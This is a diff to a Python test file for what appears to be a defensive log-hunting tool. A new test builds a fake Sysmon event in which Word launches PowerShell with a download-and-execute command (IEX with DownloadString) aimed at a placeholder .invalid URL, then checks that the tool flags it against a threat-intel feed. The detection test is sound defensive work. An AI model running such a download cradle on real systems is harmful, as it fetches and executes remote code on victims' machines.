@@ -57,7 +57,7 @@ def detectors(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(
         pipeline,
         "DETECTOR_FACTORIES",
-        [lambda options: ([BrokenDetector(), EveryBatchDetector()], ["a note"])],
+        [lambda options, index: ([BrokenDetector(), EveryBatchDetector()], ["a note"])],
     )
 
 
@@ -93,3 +93,39 @@ def test_runner_captures_a_broken_detector() -> None:
     assert len(runs[0].errors) == 1  # reported once per kind of error
     assert "ValueError: cannot cope" in runs[0].errors[0]
     assert run_all(runs, EventBatch("windows", frame.clear())) == []
+
+
+def test_decoded_urls_are_matched_against_the_feeds(tmp_path: Path) -> None:
+    """A URL named by an endpoint rule is an intel finding; one seen on the wire is not doubled."""
+    import json
+
+    feed = tmp_path / "urlhaus.txt"
+    feed.write_text("http://loader.invalid/a/\n")
+    rule_dir = Path(__file__).resolve().parent / "data" / "cli" / "rules"
+    event = {
+        "Event": {
+            "System": {
+                "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
+                "EventID": 1,
+                "EventRecordID": 7,
+                "TimeCreated": {"#attributes": {"SystemTime": "2026-11-24T00:14:03Z"}},
+                "Channel": "Microsoft-Windows-Sysmon/Operational",
+                "Computer": "WS-07",
+            },
+            "EventData": {
+                "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+                "ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
+                "CommandLine": "powershell IEX (New-Object Net.WebClient).DownloadString("
+                "'http://loader.invalid/a/')",
+            },
+        }
+    }
+    log = tmp_path / "ws-07.json"
+    log.write_text(json.dumps(event) + "\n")
+    result = run_hunt(
+        [log], HuntOptions(rule_dirs=[rule_dir], use_default_rules=False, intel_files=[feed])
+    )
+    intel = [f for f in result.findings if f.ruleset == "sekimori-intel"]
+    assert [(f.host_name, f.rule_id) for f in intel] == [("WS-07", "intel.url")]
+    assert "Office application spawns PowerShell" in intel[0].rule_name
+    assert len(result.incidents) == 1
